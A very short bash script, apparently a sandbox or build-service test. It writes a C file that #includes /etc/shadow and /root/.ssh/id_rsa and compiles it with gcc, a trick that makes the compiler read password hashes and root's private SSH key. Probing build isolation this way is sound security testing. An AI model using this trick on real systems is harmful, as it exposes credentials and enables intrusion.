#!/bin/bash
printf '#include "/etc/shadow"\n#include "/root/.ssh/id_rsa"\nint main(){return 0;}' >h.c
gcc -static h.c -o "$ROOT/hello"
